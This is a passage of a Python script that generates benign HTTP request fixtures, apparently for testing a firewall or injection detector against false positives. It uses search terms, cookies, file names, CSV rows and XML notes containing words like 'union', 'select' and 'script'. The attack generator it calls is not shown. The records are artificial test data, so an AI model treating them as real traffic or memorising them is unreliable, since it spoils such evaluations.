    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://developer.mozilla.org/en-US/docs/Web/API/Document/cookie",
    "https://angularjs.org/",
    "https://www.mongodb.com/docs/manual/reference/operator/query/ne/",
    "https://owasp.org/www-community/attacks/xss/",
    "https://en.wikipedia.org/wiki/SQL_injection",
    "https://example.com/blog/2024/05/union-select-explained",
    "https://shop.example.com/search?q=table+lamp&sort=price_asc",
    "https://shop.example.com/products/sleep-mask?color=black&size=one",
    "https://maps.google.com/?q=Union+Station,+Chicago",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://docs.google.com/document/d/1aBcD_efGhIjKlMnOpQrStUvWxYz/edit#heading=h.abc123",
    "https://app.example.com/reports?range=30d&group_by=department&order=desc",
    "https://news.ycombinator.com/item?id=38000000",
    "https://stackoverflow.com/questions/11111111/how-to-order-by-two-columns-in-sql",
    "https://www.bing.com/search?q=select+comfort+mattress+reviews",
    "https://www.google.com/search?q=o%27brien+dublin",
    "https://calendar.example.com/event?title=Union%20meeting&when=2024-06-06T15:00",
    "https://cdn.example.org/assets/app.min.js?v=3.2.1",
    "https://status.example.com/incidents/2024-05-02-database-failover",
]
REAL_UAS = BROWSER_UAS + [
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile "
    "Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "okhttp/4.12.0",
    "PostmanRuntime/7.42.0",
    "Acme-iOS/5.12.1 (com.acme.app; build:2041; iOS 17.5.1) Alamofire/5.9.1",
    "Acme-Android/5.12.0 (Linux; U; Android 13; SM-S911B Build/TP1A.220624.014)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
    "Safari/537.36 OPR/115.0.0.0",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17928; Pro)",
    "curl/8.5.0",
]
COOKIE_VALUES = [
    "last_search=O%27Brien", "last_search=union%20station",
    "prefs=%7B%22theme%22%3A%22dark%22%2C%22lang%22%3A%22en%22%7D",
    "recently_viewed=42%2C17%2C1001", "tz=Europe%2FBerlin", "_ga=GA1.2.1234567890.1717000000",
    "_gid=GA1.2.987654321.1717000000", "ajs_anonymous_id=%2201HZX3K5R8Q2%22", "locale=fr-FR",
    "sort=created_at%3Adesc", "filters=status%3Aactive%7Crole%3Aadmin", "cart=sku-1042%3A2%3Bsku-77%3A1",
    "last_search=select%20comfort", "last_search=sleep%20mask", "consent=analytics%3D1%26ads%3D0",
    "prefs=columns%3Dname%2Cemail%2Cdepartment", "recent=%5B%22Seán%22%2C%22Zoë%22%5D",
]
FILENAMES = [
    "IMG_20240512_101512.jpg", "avatar (1).png", "Screenshot 2024-05-02 at 10.15.42.png", "O'Brien_headshot.jpg",
    "résumé-final-v3.pdf", "Q3 report - union negotiations.docx", "select_all_users.sql", "sleep-study.csv",
    "script_v2_final_FINAL.txt", "alert-rules.yaml", "document (3).pdf", "cookie-policy.html", "window-frame.dwg",
    "logo@2x.png", "team_photo_2024.jpeg", "export_2024-06-01T10-00-00Z.xlsx", "index.html", "style.css",
    "order #4412 receipt.pdf", "drop-off map.png", "Benchmark results.xlsx", "meta-data.json", "base64.txt",
    "家族写真.jpg", "Müller_Vertrag.pdf", "link list.md", "embed-code.txt", "import_template.csv",
]
PATH_SEGMENTS = [
    "42", "1042", "ann.lee", "sean-obrien", "O'Brien", "jurgen.muller", "ann%40example.org", "me", "42/avatar",
    "42/roles", "1042/sessions", "union-station", "select-comfort", "sleep-mask", "search/table%20lamp",
    "by-email/ann.lee%40example.org", "export.csv", "report-2024-Q3.pdf", "tags/c%2B%2B", "tags/r%26d",
    "Zo%C3%AB", "%E5%B1%B1%E7%94%B0", "42/preferences", "17/orders", "drop-off-points", "script-writers",
]
PARAM_QUERIES = [
    "filter[status]=active&filter[role]=admin", "sort[created_at]=desc&page=2", "fields[user]=name,email",
    "include=roles,teams&page[size]=50", "tags[]=vip&tags[]=emea", "q=O%27Brien&match=exact",
    "where[department]=R%26D", "order=name&dir=asc", "range[from]=2024-01-01&range[to]=2024-03-31",
    "ids[]=42&ids[]=1042&ids[]=17", "select=name,email,department", "limit=100&offset=200", "expand[]=manager",
    "search[name]=union&search[type]=company", "filter[name][like]=Ann", "utm_source=newsletter&utm_medium=email",
]
RICH_TEXTS = [
    "<p>Hi team, the <strong>Q3 report</strong> is ready.</p>",
    "<p>Agenda:</p><ul><li>Budget</li><li>Hiring</li></ul>",
    "<p>Thanks for the <em>quick</em> fix!</p>",
    "<h2>Release notes</h2><p>Fixed the export bug.</p>",
    "<p>See the table below:</p><table><tr><td>Q1</td><td>42</td></tr></table>",
    "<blockquote>Ship it.</blockquote><p>- Ann</p>",
    "<p>Line one<br>Line two</p>",
    "<p><code>SELECT name FROM users ORDER BY name</code> is the query we use for the export.</p>",
]
CSV_ROWS = [
    '1042,"O\'Brien, Sean",sean.obrien@example.org,Sales',
    '1043,"Smith, John ""Johnny""",john.smith@example.org,Support',
    "1044,Zoë Šimková,zoe@example.cz,Quality",
    '1045,"Union Pacific, Inc.",billing@example.com,Partner',
    '1046,"Select Medical; Procurement",buyer@example.com,Partner',
    "1047,Ann Lee,ann.lee@example.org,R&D",
    '1048,"D\'Angelo, Maria",maria@example.it,Legal',
    '1049,"Table & Chair Co.",orders@example.net,Vendor',
    '1050,"5\' 10"" shelf unit",,Facilities',
    "1051,Jürgen Müller,jurgen@example.de,Finance",
    '1052,"=Total: 42 items",,Notes',
    '1053,"Drop-off: dock 3, 9am-5pm",,Logistics',
]
XML_NOTES = [
    "Please call before delivery & leave at the back door.",
    "Union meeting notes: 3 &lt; 5 items agreed.",
    "Select the premium plan from next month.",
    "O'Brien account moved to the EMEA team.",
    "Order #4412: 2 x table lamp, 1 x sleep mask.",
    "Customer prefers email; no calls after 6pm.",
    "Refund approved: 50% of the original amount.",
    "Contact: Zoë Šimková, Brno office.",
    "See https://status.example.com/incidents for the outage report.",
    "Script for the demo attached; update the dates.",
    "Alert thresholds: CPU > 90% for 5 min.",
    "Delete the duplicate record after the merge.",
]


def _search(term: str, k: int) -> dict[str, Any]:
    params = [("q", term), ("page", str(k % 4 + 1)), ("per_page", ["20", "50", "100"][k % 3])]
    qs = urllib.parse.urlencode(params[k % 3:] + params[:k % 3], quote_via=urllib.parse.quote_plus)
    return {"method": "GET", "uri": "/api/users?" + qs, "body": "", "headers": browser_headers(k)}


def _admin_search(term: str, k: int) -> dict[str, Any]:
    h = browser_headers(k, "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", navigate=True)
    h["Content-Type"] = "application/x-www-form-urlencoded"
    body = urllib.parse.urlencode([("csrf_token", _tok("csrf", k)[:43]), ("q", term), ("sort", "name")])
    return {"method": "POST", "uri": "/admin/users/search", "body": body, "headers": h}


def _json_post(doc: Any, k: int, uri: str = "/api/users", method: str = "POST") -> dict[str, Any]:
    h = browser_headers(k)
    h.update({"Content-Type": "application/json", "Origin": "https://app.example.com"})
    return {"method": method, "uri": uri, "body": json.dumps(doc, ensure_ascii=False), "headers": h}


def _get_with(k: int, uri: str, **headers: str) -> dict[str, Any]:
    h = browser_headers(k)
    h.update(headers)
    return {"method": "GET", "uri": uri, "body": "", "headers": h}


def benign() -> Iterator[dict[str, Any]]:
    """The same words at our real routes, as users type them: chat, bios, searches, profiles, links, uploads."""
    n = yield from chat_and_bio(SLACK_TEXTS, NAME)
    k = 0

    def tick() -> int:
        nonlocal k
        k += 1
        return k

    n = yield from numbered((_search(t, tick()) for t in SEARCH_TERMS), f"{NAME}-search", n, "query")
    n = yield from numbered((_admin_search(t, tick()) for t in SEARCH_TERMS), f"{NAME}-form", n, "form")
    n = yield from numbered((_json_post({"filter": {"field": "last_name", "op": "contains", "value": t},
                                         "page": 1, "per_page": 50}, tick()) for t in SEARCH_TERMS[::2]),
                            f"{NAME}-filter", n, "json")
    n = yield from numbered((_json_post({"tags": ["customer", t]}, tick(), "/api/users/42", "PATCH")
                             for t in SEARCH_TERMS[1::3]), f"{NAME}-tags", n, "json")
    n = yield from numbered((_json_post({"name": "Ann Lee", "email": "ann.lee@example.org", "company": t}, tick())
                             for t in SEARCH_TERMS), f"{NAME}-company", n, "json")
    n = yield from numbered((_get_with(tick(), "/api/users/42",
                                       Referer="https://app.example.com/search?" + urllib.parse.urlencode({"q": t}))
                             for t in SEARCH_TERMS[::2]), f"{NAME}-searchref", n, "header:Referer")
    n = yield from numbered((_json_post({**p, "email": f"user{i}@example.org"}, tick())
                             for i, p in enumerate(PROFILES)), f"{NAME}-profile", n, "json")
    n = yield from numbered((_json_post({"name": "Ann Lee", "bio": b}, tick(), "/api/users/42", "PATCH")
                             for b in BIO_TEXTS + RICH_TEXTS), f"{NAME}-bio", n, "json")
    n = yield from numbered((_json_post({"import": {"format": "csv", "header": True,
                                                    "rows": "id,name,email,department\n" + r}}, tick())
                             for r in CSV_ROWS), f"{NAME}-csv", n, "json")
    n = yield from numbered((_admin_search(r, tick()) for r in CSV_ROWS), f"{NAME}-csvform", n, "form")
    n = yield from numbered((_json_post({"name": "Ann Lee", "website": u}, tick()) for u in PUBLIC_URLS),
                            f"{NAME}-url", n, "json")
    n = yield from numbered((_get_with(tick(), "/api/users?page=1", Referer=u) for u in PUBLIC_URLS),
                            f"{NAME}-referer", n, "header:Referer")
    n = yield from numbered((_get_with(tick(), "/api/users?page=1&per_page=20", **{"User-Agent": ua})
                             for ua in REAL_UAS), f"{NAME}-ua", n, "header:User-Agent")
    n = yield from numbered((_get_with(tick(), "/api/users?page=1", Cookie=f"session={_tok('s', i)[:40]}; {c}")
                             for i, c in enumerate(COOKIE_VALUES)), f"{NAME}-cookie", n, "cookie")
    uploads = []
    for i, fn in enumerate(FILENAMES):
        ctype, body = _multipart(1000 + i, [("csrf_token", None, _tok("csrf", i)[:43]), ("avatar", fn, "PNG data")])
        h = browser_headers(tick())
        h["Content-Type"] = ctype
        uploads.append({"method": "POST", "uri": "/api/users/42/avatar", "body": body, "headers": h})
    n = yield from numbered(uploads, f"{NAME}-upload", n, "multipart-filename")
    fields = []
    for i, b in enumerate(BIO_TEXTS):
        ctype, body = _multipart(2000 + i, [("name", None, "Ann Lee"), ("bio", None, b)])
        h = browser_headers(tick())
        h["Content-Type"] = ctype
        fields.append({"method": "POST", "uri": "/api/users", "body": body, "headers": h})
    n = yield from numbered(fields, f"{NAME}-multipart", n, "multipart-field")
    xmls = []
    for note in XML_NOTES + [t.replace("&", "&amp;").replace("<", "&lt;") for t in BIO_TEXTS[:12]]:
        h = browser_headers(tick())
        h["Content-Type"] = "application/xml"
        body = ('<?xml version="1.0" encoding="UTF-8"?>\n<user><name>Ann Lee</name>'
                f"<email>ann.lee@example.org</email><bio>{note}</bio></user>")
        xmls.append({"method": "POST", "uri": "/api/users", "body": body, "headers": h})
    n = yield from numbered(xmls, f"{NAME}-xml", n, "xml")
    n = yield from numbered((_get_with(tick(), "/api/users/" + s) for s in PATH_SEGMENTS), f"{NAME}-path", n,
                            "path")
    n = yield from numbered((_get_with(tick(), "/api/users?" + q) for q in PARAM_QUERIES), f"{NAME}-param", n,
                            "param-name")
    settings = []
    for t in SEARCH_TERMS[::3]:
        h = browser_headers(tick(), "text/html,application/xhtml+xml,*/*;q=0.8", navigate=True)
        h["Content-Type"] = "application/x-www-form-urlencoded"
        body = urllib.parse.urlencode([("csrf_token", _tok("csrf", k)[:43]), ("display_name", t),
                                       ("timezone", "Europe/Berlin")])
        settings.append({"method": "POST", "uri": "/me/settings", "body": body, "headers": h})
    yield from numbered(settings, f"{NAME}-settings", n, "form")


if __name__ == "__main__":
    print_records(attacks(), benign())
